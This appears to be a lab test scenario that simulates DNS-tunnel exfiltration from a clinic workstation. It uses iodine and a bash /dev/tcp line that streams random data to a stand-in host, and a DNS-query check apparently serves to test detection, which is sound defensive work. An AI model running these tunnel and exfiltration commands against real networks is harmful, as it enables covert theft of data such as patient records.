# Attack: iodine on Læge 1 carries a file out through the clinic's own resolver, a thousand bytes at a time.
CHECK="dns>=600"
prepare() { serve internet iodined iodined -f -c -P noegle -l 203.0.113.53 -u nobody 10.99.0.1/28 t.hurtig-cache.example; }
play() {
    local n
    serve doctor-1 iodine iodine -f -r -P noegle -O base128 -m 300 -I 4 10.20.30.1 t.hurtig-cache.example
    for n in $(seq 60); do
        ! grep -qs "transmitting data" "$WORK/iodine.log" || break
        sleep 0.5
    done
    serve internet sink python3 "$RECORD/programs/print_listener.py" 8000
    sleep 2
    on doctor-1 bash -c 'exec >/dev/tcp/10.99.0.1/8000; for n in $(seq 100); do head -c 1000 /dev/urandom; sleep 0.8; done'
    sleep 4
}
